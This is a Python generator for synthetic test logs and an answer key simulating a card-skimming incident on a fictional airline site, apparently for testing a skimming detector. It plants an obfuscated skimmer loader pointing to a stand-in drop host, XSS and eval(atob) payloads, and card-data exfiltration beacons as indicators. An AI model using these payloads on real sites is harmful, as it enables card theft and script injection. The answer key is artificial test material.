#!/usr/bin/env python3
"""Generate the bundled skimhunt incident (testdata/incident/) and its answer key.

An airline-like site, www.skyways-air.example, embeds a chat widget from
chat.vendorcdn.example. During 2017-09-26T00:00:00Z .. 2017-10-12T23:59:59Z the
widget's custom code is replaced by an obfuscated skimmer that loads from the
look-alike host cdn-vendor-chat.example and beacons card forms out. Logs cover
2017-09-01 .. 2017-10-31 so every indicator class also has twins outside the
window, and decoys (ordinary traffic that looks suspicious) sit inside it.

Deterministic: a fixed seed, no wall clock, gzip with mtime=0. Re-running
rewrites byte-identical files. Usage: python3 testdata/make_incident.py
(run from anywhere; paths are relative to this file). Python 3.8+, stdlib only.

Outputs: nginx/access.log, apache/ssl_access.log, iis/u_ex170927.log,
cloudfront/E2SKYWAYS.2017-10-01.gz, chat/export.jsonl, csp/reports.jsonl,
testdata/incident.expected.md (human answer key) and testdata/incident.expected.json
(the same, for tests), beside the incident so scanning it does not read them.
"""

import base64
import datetime as dt
import gzip
import io
import json
import os
import random
import re
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "incident")
RULES = os.path.join(os.path.dirname(HERE), "rules")

UTC = dt.timezone.utc
EDT = dt.timezone(dt.timedelta(hours=-4))
START = dt.datetime(2017, 9, 1, tzinfo=UTC)
END = dt.datetime(2017, 10, 31, 23, 59, 59, tzinfo=UTC)
WIN_START = dt.datetime(2017, 9, 26, tzinfo=UTC)
WIN_END = dt.datetime(2017, 10, 12, 23, 59, 59, tzinfo=UTC)

SITE = "www.skyways-air.example"
CHAT_CDN = "chat.vendorcdn.example"
DROP = "cdn-vendor-chat.example"
CF_HOST = "d3skyways1a2b3c.cloudfront.net"
STATIC = "static.skyways-air.example"

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/61.0.3163.100 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_12_6) AppleWebKit/604.1.38 (KHTML, like Gecko) Version/11.0 Safari/604.1.38",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 11_0 like Mac OS X) AppleWebKit/604.1.38 (KHTML, like Gecko) Version/11.0 Mobile/15A372 Safari/604.1",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:56.0) Gecko/20100101 Firefox/56.0",
    "Mozilla/5.0 (Linux; Android 7.0; SM-G930F Build/NRD90M) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/61.0.3163.98 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:55.0) Gecko/20100101 Firefox/55.0",
]
BOT_UAS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/5.2; +http://ahrefs.com/robot/)",
]
CITIES = ["paris", "london", "new-york", "tokyo", "lisbon", "rome", "dubai", "toronto", "sydney", "madrid"]
AIRPORTS = ["JFK", "LHR", "CDG", "NRT", "LIS", "FCO", "DXB", "YYZ", "SYD", "MAD", "BOS", "ORD"]
BLOG = ["javascript-tips", "packing-list", "lounge-guide", "baggage-rules-2017", "eval-of-loyalty-programs"]
REFERERS = ["-", "-", "https://www.google.com/", "https://www.bing.com/search?q=skyways+air",
            "https://" + SITE + "/", "https://" + SITE + "/flights", "https://" + SITE + "/booking/search"]

# Public test card numbers and generated Luhn-valid brand numbers (not real cards).
TEST_VISA = "4111111111111111"
TEST_MC = "5555555555554444"
TEST_AMEX = "378282246310005"
TEST_VISA2 = "4012888888881881"


def luhn_ok(d):
    total = 0
    for i, c in enumerate(reversed(d)):
        n = int(c)
        if i % 2:
            n *= 2
            if n > 9:
                n -= 9
        total += n
    return total % 10 == 0


def luhn_complete(prefix, length, rng):
    body = prefix + "".join(str(rng.randrange(10)) for _ in range(length - len(prefix) - 1))
    for check in "0123456789":
        if luhn_ok(body + check):
            return body + check
    raise AssertionError("unreachable")


def luhn_break(d):
    last = (int(d[-1]) + 1) % 10
    return d[:-1] + str(last)


def group4(d):
    return " ".join(d[i:i + 4] for i in range(0, len(d), 4))


def mask(d):
    return d[:6] + "*" * (len(d) - 10) + d[-4:]


def in_window(t):
    return WIN_START <= t <= WIN_END


def utc_iso(t):
    return t.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def read_rules():
    """title and id of every rule, from the YAML files' top-level lines (stdlib only)."""
    out = {}
    for name in sorted(os.listdir(RULES)):
        if not name.endswith(".yml"):
            continue
        title = rid = None
        with open(os.path.join(RULES, name), encoding="utf-8") as fh:
            for line in fh:
                if line.startswith("title:"):
                    title = line[6:].strip()
                    if title.startswith("'") and title.endswith("'"):
                        title = title[1:-1].replace("''", "'")
                elif line.startswith("id:"):
                    rid = line[3:].strip()
        out[name[:-4]] = (title, rid)
    return out


class Log:
    """Entries of one log file: (time, order, payload, plant-or-None); sorted when written."""

    def __init__(self, rel):
        self.rel = rel
        self.entries = []
        self.seq = 0

    def add(self, t, payload, plant=None):
        self.seq += 1
        self.entries.append((t, self.seq, payload, plant))

    def sorted(self):
        return sorted(self.entries, key=lambda e: (e[0], e[1]))


PLANTS = []


def plant(kind, rules, what):
    """A planted line's answer-key record; file, line and time are filled in when written."""
    p = {"kind": kind, "rules": list(rules), "what": what}
    PLANTS.append(p)
    return p


def rand_time(rng, lo=START, hi=END):
    span = int((hi - lo).total_seconds())
    return lo + dt.timedelta(seconds=rng.randrange(span), milliseconds=rng.randrange(1000))


def window_time(rng):
    return rand_time(rng, WIN_START + dt.timedelta(hours=2), WIN_END - dt.timedelta(hours=2))


def before_time(rng):
    return rand_time(rng, START + dt.timedelta(days=1), WIN_START - dt.timedelta(days=1))


def after_time(rng):
    return rand_time(rng, WIN_END + dt.timedelta(days=1), END - dt.timedelta(days=1))


def rand_ip(rng):
    nets = ["192.0.2.", "198.51.100.", "203.0.113.", "100.64.12.", "172.16.40."]
    return rng.choice(nets) + str(rng.randrange(2, 250))


def bg_request(rng, t):
    """One ordinary request: (method, uri, status, bytes, referer, ua)."""
    r = rng.random()
    ua = rng.choice(UAS)
    ref = rng.choice(REFERERS)
    status, method = 200, "GET"
    if r < 0.08:
        ua = rng.choice(BOT_UAS)
        uri = rng.choice(["/robots.txt", "/sitemap.xml", "/", "/destinations/" + rng.choice(CITIES), "/blog/" + rng.choice(BLOG)])
        ref = "-"
    elif r < 0.30:
        uri = rng.choice(["/static/css/main.css?v=20170901", "/scripts/app.js", "/scripts/vendor.js?v=3.2.1",
                          "/img/logo.png", "/img/hero-" + rng.choice(CITIES) + ".jpg", "/fonts/skyways.woff2", "/favicon.ico",
                          "/scripts/app.js?_=" + str(int(t.timestamp() * 1000))])
        if rng.random() < 0.3:
            status = 304
    elif r < 0.45:
        a, b = rng.sample(AIRPORTS, 2)
        day = (t + dt.timedelta(days=rng.randrange(3, 60))).strftime("%Y-%m-%d")
        uri = "/booking/search?from=%s&to=%s&date=%s&adults=%d" % (a, b, day, rng.randrange(1, 4))
    elif r < 0.52:
        uri = "/booking/payment"
        if rng.random() < 0.4:
            method, status = "POST", 302
    elif r < 0.56:
        uri = "/booking/confirm?booking=SK" + "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(6))
    elif r < 0.66:
        uri = "/destinations/" + rng.choice(CITIES)
    elif r < 0.72:
        uri = "/blog/" + rng.choice(BLOG)
    elif r < 0.76:
        uri = rng.choice(["/help/baggage", "/help/cvv-explained", "/help/contact", "/manage-booking"])
    elif r < 0.80:
        uri = rng.choice(["/wp-login.php", "/admin/", "/.env", "/phpmyadmin/", "/old-offers.html"])
        status, ref = 404, "-"
    elif r < 0.84:
        uri = "/search?q=" + urllib.parse.quote_plus(rng.choice(["cheap flights to " + rng.choice(CITIES), "baggage allowance", "seat selection", "lounge access"]))
    elif r < 0.90:
        uri = "/flights?from=" + rng.choice(AIRPORTS)
    else:
        uri = "/"
    size = 0 if status in (304, 302) else rng.randrange(300, 90000)
    return method, uri, status, size, ref, ua


# Script assets keep stable sizes (drift needs an honest baseline). vendor.js is
# legitimately served in two sizes (gzip and identity) by the origin; the CDN
# always serves it compressed.
WIDGET = "/js/chat-widget.js"
WIDGET_SIZE, WIDGET_TAMPERED = 14562, 17830
ASSET_SIZES = {"/scripts/app.js": 48213, "/static/c.js": 2817}


def asset_size(kind, uri, status, size, t):
    stem = uri.split("?")[0]
    if status != 200 or not stem.endswith(".js") or stem == WIDGET:
        return size
    if stem == "/scripts/vendor.js":
        return 30412 if (kind == "cf" or int(t.timestamp()) % 2 == 0) else 98211
    return ASSET_SIZES.get(stem, 1000 + sum(stem.encode()) * 37 % 50000)


def combined(ip, t, method, uri, status, size, ref, ua, tz=UTC, vhost=None):
    lt = t.astimezone(tz)
    stamp = lt.strftime("%d/%b/%Y:%H:%M:%S ") + lt.strftime("%z")
    line = '%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"' % (ip, stamp, method, uri, status, size, ref, ua)
    return (vhost + " " + line) if vhost else line


def q(s):
    return urllib.parse.quote(s, safe="")


# ---------------------------------------------------------------- payloads
rng_cards = random.Random(20170926)
GEN_VISA = luhn_complete("4", 16, rng_cards)
GEN_MC = luhn_complete("53", 16, rng_cards)
GEN_MC2 = luhn_complete("2221", 16, rng_cards)
GEN_AMEX = luhn_complete("37", 15, rng_cards)
GEN_DISC = luhn_complete("6011", 16, rng_cards)
NOBRAND = luhn_complete("7", 16, rng_cards)          # Luhn-valid, no issuer prefix
ORDER_BAD = luhn_break(luhn_complete("4", 16, rng_cards))  # Visa-shaped but fails Luhn
ORDER_BAD2 = luhn_break(luhn_complete("5", 16, rng_cards))
assert luhn_ok(GEN_VISA) and not luhn_ok(ORDER_BAD) and luhn_ok(NOBRAND)

SKIM_JSON = json.dumps({"n": "J Smith", "c": GEN_VISA, "e": "11/19", "v": "431"}, separators=(",", ":"))
B64_PAYLOAD = base64.b64encode(SKIM_JSON.encode()).decode()  # base64 of a card form: no digits survive as a PAN
HEX_PAYLOAD = SKIM_JSON.encode().hex()
SHA256 = "5d41402abc4b2a76b9719d911017c592" * 2
JWT = ("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJ2aXNpdG9yLTQ0MTkiLCJpYXQiOjE1MDY0NzA0MDAsImV4cCI6MTUwNjQ3NDAwMH0"
       ".4pcPyMD09olPSyXnrXCjTwXyr4BsezdI1AVTmud2fU4")
SKIMMER_JS = ("var _0x4f2a=['Y3JlYXRlRWxlbWVudA==','c2NyaXB0'];(function(_0x1b9c7e){var s=document[atob(_0x4f2a[0])](atob(_0x4f2a[1]));"
              "s.src='https://" + DROP + "/widget/v3/chat.js';document.head.appendChild(s);var t=document.createElement('script');})();")
UTM = ("/__utm.gif?utmwv=5.7.2&utms=4&utmn=%d&utmhn=" + SITE + "&utmcs=UTF-8&utmsr=1920x1080&utmvp=1903x969&utmsc=24-bit"
       "&utmul=en-us&utmje=0&utmfl=-&utmdt=Payment%%20-%%20Skyways&utmhid=%d&utmr=-&utmp=%%2Fbooking%%2Fpayment&utmht=%d"
       "&utmac=UA-7734021-1&utmcc=__utma%%3D201543781.1290371532.1506400000.1506400000.1506520900.2%%3B%%2B__utmz%%3D201543781"
       ".1506400000.1.1.utmcsr%%3D(direct)%%7Cutmccn%%3D(direct)%%7Cutmcmd%%3D(none)%%3B&utmjid=&utmu=qAAAAAAAAAAAAAAAAAAAAAAE~")


# ---------------------------------------------------------------- web logs
def web_plants(kind):
    """Planted (uri, method, referer, rules, what, in-window?) for the combined-format files."""
    p = []
    enc_script = "/search?q=" + q("<script src=//" + DROP + "/c.js></script>")
    p += [(enc_script, "GET", "-", ["injected-script_script_tag_query"], "URL-encoded <script> in search query", True),
          (enc_script, "GET", "-", ["injected-script_script_tag_query"], "twin of URL-encoded <script> in query", False)]
    if kind == "nginx":
        dbl = "/search?q=" + q(q("<script>fetch('//" + DROP + "/p')</script>"))
        p += [(dbl, "GET", "-", ["injected-script_script_tag_query"], "double-encoded %253Cscript in query", True),
              ("/" + q("<script>alert(1)</script>"), "GET", "-", ["injected-script_script_tag_path"], "<script> in path", True),
              ("/" + q("<script>alert(1)</script>"), "GET", "-", ["injected-script_script_tag_path"], "twin of <script> in path", False),
              ("/flights", "GET", "https://x.example/?q=" + q("<script>alert(1)</script>"), ["injected-script_script_tag_referer"], "<script> in Referer", True),
              ("/login?next=javascript:alert(document.cookie)", "GET", "-", ["injected-script_javascript_uri"], "javascript: URI in redirect parameter", True),
              ("/login?next=javascript:alert(document.cookie)", "GET", "-", ["injected-script_javascript_uri"], "twin of javascript: URI", False),
              ("/search?q=" + q('" onmouseover="alert(1)'), "GET", "-", ["injected-script_event_handler_attribute"], "onmouseover= after a quote", True),
              ("/search?q=" + q("<iframe src=https://" + DROP + "/pay></iframe>"), "GET", "-", ["injected-script_frame_object_tag"], "<iframe> in query", True),
              ("/search?q=" + q("<iframe src=https://" + DROP + "/pay></iframe>"), "GET", "-", ["injected-script_frame_object_tag"], "twin of <iframe> in query", False),
              ("/search?q=" + q("<svg/onload=alert(1)>"), "GET", "-", ["injected-script_svg_img_tag", "injected-script_event_handler_attribute"], "<svg/onload=> in query", True),
              ("/search?q=" + q("eval(atob('ZmV0Y2goJy8vY2RuLXZlbmRvci1jaGF0LmV4YW1wbGUnKQ'))"), "GET", "-", ["injected-script_js_execution_functions_query"], "eval(atob(...)) in query", True),
              ("/search?q=" + q("eval(atob('ZmV0Y2goJy8vY2RuLXZlbmRvci1jaGF0LmV4YW1wbGUnKQ'))"), "GET", "-", ["injected-script_js_execution_functions_query"], "twin of eval(atob(...))", False),
              ("/p?c=" + q(",".join(str(ord(c)) for c in "document.createElement")), "GET", "-", ["injected-script_charcode_list_query"], "char-code list in query", True),
              ("/p?x=" + q("".join("\\x%02x" % ord(c) for c in "//" + DROP)), "GET", "-", ["injected-script_hex_escape_run_query"], "\\x escape run in query", True),
              ("/p?x=" + q("var s=document.createElement('script')"), "GET", "-", ["injected-script_create_script_element_query"], "createElement('script') in query", True),
              ("/go?u=" + q("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="), "GET", "-", ["injected-script_data_uri_script_query", "injected-script_base64_script_query", "injected-script_script_tag_query"], "data:text/html base64 URI in query", True),
              ("/media/logo.png?d=" + B64_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_image_beacon_base64_payload", "card-skimming_encoded_json_card_with_expiry_cvv", "card-exposure_pan_in_web_request"], "base64 card form on image beacon", True),
              ("/media/logo.png?d=" + B64_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_image_beacon_base64_payload", "card-skimming_encoded_json_card_with_expiry_cvv", "card-exposure_pan_in_web_request"], "twin of base64 image beacon", False),
              ("/img/pixel.gif?h=" + HEX_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_image_beacon_hex_payload", "card-skimming_image_beacon_base64_payload", "card-skimming_encoded_json_card_with_expiry_cvv", "card-exposure_pan_in_web_request"], "hex card form on image beacon (hex is also base64 alphabet)", True),
              ("/gate.php?data=" + B64_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_gate_endpoint_payload", "card-skimming_encoded_json_card_with_expiry_cvv", "card-exposure_pan_in_web_request"], "gate.php with base64 payload", True),
              ("/gate.php?data=" + B64_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_gate_endpoint_payload", "card-skimming_encoded_json_card_with_expiry_cvv", "card-exposure_pan_in_web_request"], "twin of gate.php payload", False),
              ("/booking/confirm", "GET", "https://www.baways.com/gateway/app/dataprocessing", ["card-skimming_exfil_domain_web"], "Referer from baways.com", True),
              ("/booking/confirm", "GET", "https://www.baways.com/gateway/app/dataprocessing", ["card-skimming_exfil_domain_web"], "twin of baways.com Referer", False),
              ("/media/catalog/logo.png", "POST", "https://" + SITE + "/booking/payment", ["card-skimming_post_to_image_path"], "POST to an image path", True),
              ("/media/catalog/logo.png", "POST", "https://" + SITE + "/booking/payment", ["card-skimming_post_to_image_path"], "twin of POST to image", False),
              ("/booking/confirm?ref=" + q(group4(TEST_MC)), "GET", "-", ["card-exposure_pan_in_web_request"], "test Mastercard, grouped and URL-encoded", True),
              ("/booking/confirm?ref=" + TEST_MC, "GET", "-", ["card-exposure_pan_in_web_request"], "twin: test Mastercard contiguous", False),
              ("/i.gif?cardnumber=" + GEN_VISA + "&exp_month=11&cvv=431", "GET", "https://" + SITE + "/booking/payment",
               ["card-skimming_card_field_names_query", "card-exposure_pan_in_web_request", "card-exposure_pan_with_cvv_query"], "generated Visa with expiry and CVV on an image drop", True),
              ]
    if kind == "apache":
        p += [("/booking/payment", "GET", "https://" + SITE + "/booking/payment?payment%5Bcc_number%5D=&payment%5Bcc_cid%5D=", ["card-skimming_card_field_names_referer"], "card field names in Referer query", True),
              ("/booking/payment", "GET", "https://" + SITE + "/booking/payment?payment%5Bcc_number%5D=&payment%5Bcc_cid%5D=", ["card-skimming_card_field_names_referer"], "twin of card fields in Referer", False),
              ("/img/banner.php?hash=" + B64_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_known_drop_url_shape", "card-skimming_encoded_json_card_with_expiry_cvv", "card-exposure_pan_in_web_request"], "hash= payload on a .php image gate", True),
              ("/search?q=" + q("var _0x3f2a1b=['c2NyaXB0'];"), "GET", "-", ["injected-script_obfuscator_identifiers_query"], "_0x identifier in query", True),
              ("/search?q=" + q("var _0x3f2a1b=['c2NyaXB0'];"), "GET", "-", ["injected-script_obfuscator_identifiers_query"], "twin of _0x identifier", False),
              ("/p?d=" + base64.b64encode(b"<script src=//" + DROP.encode() + b"/c.js></script>").decode().rstrip("="), "GET", "-", ["injected-script_base64_script_query", "injected-script_script_tag_query"], "base64 <script> in query", True),
              ("/booking/pay?card=" + q(group4(GEN_MC)), "GET", "-", ["card-exposure_pan_in_web_request"], "generated Mastercard grouped in query", True)]
    return p


def json_u(s):
    """Every character of s as a JSON \\uXXXX escape."""
    return "".join("\\u%04x" % ord(c) for c in s)


def decode_plants():
    """Encoded beacons for the decoding layers: (uri, referer, rules, what, in-window?) for nginx."""
    form_u = '{"name":"A Traveller","card":"' + json_u(GEN_MC2) + '","src":"checkout"}'
    url_b64 = q(base64.b64encode(form_u.encode()).decode())
    fields_hex = json.dumps({"cardnumber": "", "cvv": "", "exp_month": "", "holder": "A Traveller"}, separators=(",", ":")).encode().hex()
    script_b64 = base64.b64encode(("<script src=//" + DROP + "/c.js></script>").encode()).decode()
    pan = ["card-skimming_encoded_json_card_number", "card-exposure_pan_in_web_request"]
    return [
        ("/api/v2/telemetry?ev=view&p=" + url_b64, "https://" + SITE + "/booking/payment", pan,
         "URL-encoded base64 of JSON with \\u-escaped Mastercard on a telemetry URL (url, base64, json)", True),
        ("/api/v2/telemetry?ev=view&p=" + url_b64, "https://" + SITE + "/booking/payment", pan,
         "twin of URL-encoded base64 JSON card beacon", False),
        ("/wp-includes/js/jquery/jquery.js?ver=" + fields_hex, "https://" + SITE + "/booking/payment", ["card-skimming_encoded_json_card_field_names"],
         "hex JSON of card form-field names on a script URL", True),
        ("/flights", "https://" + SITE + "/search?r=" + script_b64, ["injected-script_script_tag_referer"],
         "base64 <script> in Referer query", True),
    ]


def decode_decoys():
    state = base64.urlsafe_b64encode(json.dumps({"from": "LHR", "to": "JFK", "date": "2017-10-04", "pax": 2}, separators=(",", ":")).encode()).decode().rstrip("=")
    claims = base64.urlsafe_b64encode(json.dumps({"sub": "visitor-4419", "scope": "checkout payment", "exp": 1507000000}, separators=(",", ":")).encode()).decode().rstrip("=")
    jwt = JWT.split(".")[0] + "." + claims + "." + JWT.split(".")[2]
    return [("/flights/search?state=" + state, "base64 JSON search state (no card data)"),
            ("/booking/payment?session=" + jwt, "JWT with checkout scope on the payment page")]


def web_decoys(kind, t):
    ms = int(t.timestamp() * 1000)
    d = [("/scripts/app.js?_=%d" % ms, "epoch-ms cache buster"),
         ("/orders/view?order=" + ORDER_BAD, "Luhn-failing 16-digit order number"),
         ("/orders/view?order=" + NOBRAND, "Luhn-valid 16-digit number with no issuer prefix"),
         ("/api/session?token=" + JWT, "JWT in query"),
         (UTM % (1849102933, 1397612375, ms), "__utm.gif pixel with long query"),
         ("/blog/javascript-tips", "script-like word in path"),
         ("/eval/results?year=2017", "eval in path"),
         ("/img/hero-paris.jpg?v=" + SHA256, "SHA-256 cache-busting digest on image"),
         ("/collect?v=1&t=pageview&tid=UA-7734021-1&cid=4419.1506400000&dp=%2Fbooking%2Fpayment&dl=https%3A%2F%2F" + SITE + "%2Fbooking%2Fpayment", "Google Analytics measurement protocol hit"),
         ("/help/cvv-explained", "card words in path only"),
         ("/search?q=online+check-in", "on- word in query")]
    if kind == "apache":
        d.append(("/search?q=createElement+tutorial", "createElement word without a call"))
    return d


def gen_combined(kind, rel, n_bg, tz, vhost, seed):
    rng = random.Random(seed)
    log = Log(rel)
    for _ in range(n_bg):
        t = rand_time(rng)
        m, uri, st, sz, ref, ua = bg_request(rng, t)
        log.add(t, (rand_ip(rng), m, uri, st, sz, ref, ua))
    for uri, method, ref, rules, what, inside in web_plants(kind):
        t = window_time(rng) if inside else (before_time(rng) if rng.random() < 0.5 else after_time(rng))
        status = 404 if "<script" in urllib.parse.unquote(urllib.parse.unquote(uri.split("?")[0])) else 200
        log.add(t, (rand_ip(rng), method, uri, status, rng.randrange(40, 9000), ref, rng.choice(UAS)), plant("indicator", rules, what))
    for _ in range(2):
        t = window_time(rng)
        for uri, what in web_decoys(kind, t):
            log.add(t, (rand_ip(rng), "GET", uri, 200, rng.randrange(40, 9000), "https://" + SITE + "/", rng.choice(UAS)), plant("decoy", [], what))
            t += dt.timedelta(seconds=rng.randrange(1, 600))
    if kind == "nginx":
        # Own generator, so adding these left every earlier line unchanged.
        drng = random.Random(seed ^ 0x5EED)
        for uri, ref, rules, what, inside in decode_plants():
            t = window_time(drng) if inside else after_time(drng)
            log.add(t, (rand_ip(drng), "GET", uri, 200, drng.randrange(40, 9000), ref, drng.choice(UAS)), plant("indicator", rules, what))
        t = window_time(drng)
        for uri, what in decode_decoys():
            log.add(t, (rand_ip(drng), "GET", uri, 200, drng.randrange(40, 9000), "https://" + SITE + "/", drng.choice(UAS)), plant("decoy", [], what))
            t += dt.timedelta(seconds=drng.randrange(1, 600))
    if kind == "apache":
        # The edge lines: local -0400 times either side of the window's UTC edges.
        inside = dt.datetime(2017, 9, 25, 21, 30, 0, tzinfo=EDT)
        outside = dt.datetime(2017, 10, 12, 21, 0, 0, tzinfo=EDT)
        log.add(inside, ("198.51.100.77", "GET", "/js/jquery.min.php", 200, 4211, "https://" + SITE + "/booking/payment", UAS[0]),
                plant("indicator", ["card-skimming_known_drop_url_shape"], "edge: 25/Sep/2017:21:30:00 -0400 = 2017-09-26T01:30Z, inside"))
        log.add(outside, ("198.51.100.77", "GET", "/js/jquery.min.php", 200, 4211, "https://" + SITE + "/booking/payment", UAS[0]),
                plant("indicator", ["card-skimming_known_drop_url_shape"], "edge: 12/Oct/2017:21:00:00 -0400 = 2017-10-13T01:00Z, outside"))
    if kind == "nginx":
        add_widget_drift(log, rng)
    lines = []
    for t, _, (ip, m, uri, st, sz, ref, ua), pl in log.sorted():
        sz = asset_size(kind, uri, st, sz, t)
        lines.append(combined(ip, t, m, uri, st, sz, ref, ua, tz=tz, vhost=vhost))
        if pl is not None:
            pl.update(file=rel, line=len(lines), time=t)
    return lines


def add_widget_drift(log, rng):
    """The site's chat-widget loader: one size before the window, a tampered size
    from the window's start to its end, the old size again after it."""
    pay, home = "https://" + SITE + "/booking/payment", "https://" + SITE + "/"
    t = START + dt.timedelta(hours=3)
    while t < END:
        inside = in_window(t)
        status = 304 if rng.random() < 0.15 else 200
        size = 0 if status == 304 else (WIDGET_TAMPERED if inside else WIDGET_SIZE)
        log.add(t, (rand_ip(rng), "GET", WIDGET, status, size, pay if rng.random() < 0.5 else home, rng.choice(UAS)))
        t += dt.timedelta(hours=rng.randrange(6, 14), minutes=rng.randrange(60))
    first = WIN_START + dt.timedelta(minutes=7)
    log.add(first, ("203.0.113.45", "GET", WIDGET, 200, WIDGET_TAMPERED, pay, UAS[2]),
            plant("indicator", ["skimhunt.drift"], "chat-widget.js served with %d bytes (baseline %d) from the window's start" % (WIDGET_TAMPERED, WIDGET_SIZE)))
    log.add(WIN_END + dt.timedelta(minutes=40), ("203.0.113.46", "GET", WIDGET, 200, WIDGET_SIZE, home, UAS[0]))


# ---------------------------------------------------------------- IIS W3C
IIS_F1 = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken".split()
IIS_F2 = "date time c-ip cs-username s-ip s-port cs-method cs-uri-stem cs-uri-query sc-status sc-substatus sc-win32-status sc-bytes cs-bytes time-taken cs(Referer) cs(User-Agent) cs-host".split()


def gen_iis(seed):
    rel = "iis/u_ex170927.log"
    rng = random.Random(seed)
    day0 = dt.datetime(2017, 9, 27, tzinfo=UTC)
    log = Log(rel)

    def rt():
        return day0 + dt.timedelta(seconds=rng.randrange(86400))
    for _ in range(700):
        t = rt()
        m, uri, st, sz, ref, ua = bg_request(rng, t)
        log.add(t, (rand_ip(rng), m, uri, st, sz, ref, ua))
    plants = [
        ("/search?q=" + q(q("<script src=//" + DROP + "/c.js></script>")), "GET", "-", ["injected-script_script_tag_query"], "double-encoded %253Cscript in IIS query"),
        ("/checkout/save?payment%5Bcc_number%5D=&payment%5Bcc_cid%5D=&billing%5Bcc_exp_year%5D=", "GET", "https://" + SITE + "/booking/payment", ["card-skimming_card_field_names_query"], "payment[cc_number] field names (empty) in query"),
        ("/static/i.jpg?a=1&x=" + HEX_PAYLOAD.upper(), "GET", "https://" + SITE + "/booking/payment", ["card-skimming_image_beacon_hex_payload", "card-skimming_image_beacon_base64_payload", "card-skimming_encoded_json_card_with_expiry_cvv", "card-exposure_pan_in_web_request"], "upper-case hex card form on .jpg beacon"),
        ("/p?x=" + q("s.src='//" + DROP + "/c.js'"), "GET", "-", ["injected-script_remote_src_assignment_query"], "remote .src= assignment in query"),
        ("/booking/confirm", "GET", "https://magentocore.net/mage/mage.js", ["card-skimming_exfil_domain_web"], "Referer from magentocore.net"),
        ("/media/gate.php?image_id=" + B64_PAYLOAD[:48], "GET", "-", ["card-skimming_known_drop_url_shape", "card-skimming_encoded_json_card_number", "card-exposure_pan_in_web_request"], "/gate.php?image_id= drop (base64 cut after the card number)"),
    ]
    for uri, m, ref, rules, what in plants:
        log.add(rt(), (rand_ip(rng), m, uri, 200, rng.randrange(40, 9000), ref, rng.choice(UAS)), plant("indicator", rules, what))
    t = rt()
    for uri, what in web_decoys("iis", t)[:6]:
        log.add(t, (rand_ip(rng), "GET", uri, 200, rng.randrange(40, 9000), "https://" + SITE + "/", rng.choice(UAS)), plant("decoy", [], what))
        t += dt.timedelta(seconds=rng.randrange(1, 300))

    def head(fields, t):
        return ["#Software: Microsoft Internet Information Services 8.5", "#Version: 1.0",
                "#Date: " + t.strftime("%Y-%m-%d %H:%M:%S"), "#Fields: " + " ".join(fields)]
    entries = log.sorted()
    half = len(entries) // 2
    lines = head(IIS_F1, day0)
    fields = IIS_F1
    for i, (t, _, (ip, m, uri, st, sz, ref, ua), pl) in enumerate(entries):
        if i == half:
            # IIS writes a fresh header block when the logged field set changes (here: the
            # site's logging config was edited mid-day).
            fields = IIS_F2
            lines += head(IIS_F2, t.replace(microsecond=0))
        stem, _, query = uri.partition("?")
        v = {"date": t.strftime("%Y-%m-%d"), "time": t.strftime("%H:%M:%S"), "s-ip": "10.20.0.14", "cs-method": m,
             "cs-uri-stem": stem, "cs-uri-query": query or "-", "s-port": "443", "cs-username": "-", "c-ip": ip,
             "cs(User-Agent)": ua.replace(" ", "+"), "cs(Referer)": ref, "sc-status": str(st), "sc-substatus": "0",
             "sc-win32-status": "0", "time-taken": str(rng.randrange(15, 900)), "sc-bytes": str(asset_size("iis", uri, st, sz, t)),
             "cs-bytes": str(rng.randrange(300, 1400)), "cs-host": SITE}
        lines.append(" ".join(v[f] for f in fields))
        if pl is not None:
            pl.update(file=rel, line=len(lines), time=t)
    return lines


# ---------------------------------------------------------------- CloudFront
CF_FIELDS = ("date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) "
             "cs-uri-query cs(Cookie) x-edge-result-type x-edge-request-id x-host-header cs-protocol cs-bytes time-taken "
             "x-forwarded-for ssl-protocol ssl-cipher x-edge-response-result-type cs-protocol-version").split()


def gen_cloudfront(seed):
    rel = "cloudfront/E2SKYWAYS.2017-10-01.gz"
    rng = random.Random(seed)
    day0 = dt.datetime(2017, 10, 1, tzinfo=UTC)
    log = Log(rel)

    def rt():
        return day0 + dt.timedelta(seconds=rng.randrange(86400))
    for _ in range(800):
        t = rt()
        m, uri, st, sz, ref, ua = bg_request(rng, t)
        log.add(t, (rand_ip(rng), m, uri, st, sz, ref, ua))
    plants = [
        ("/favicon.ico?s=" + B64_PAYLOAD.rstrip("="), "https://" + SITE + "/booking/payment", ["card-skimming_image_beacon_base64_payload", "card-skimming_encoded_json_card_with_expiry_cvv", "card-exposure_pan_in_web_request"], "base64 card form on favicon.ico"),
        ("/static/c.js?v=" + q("(function(_0x2c81f4){return _0x2c81f4})"), "-", ["injected-script_obfuscator_identifiers_query"], "_0x identifier in CDN query"),
        ("/scripts/app.js?cc=" + TEST_VISA, "https://" + SITE + "/booking/payment", ["card-exposure_pan_in_web_request"], "test Visa contiguous in query"),
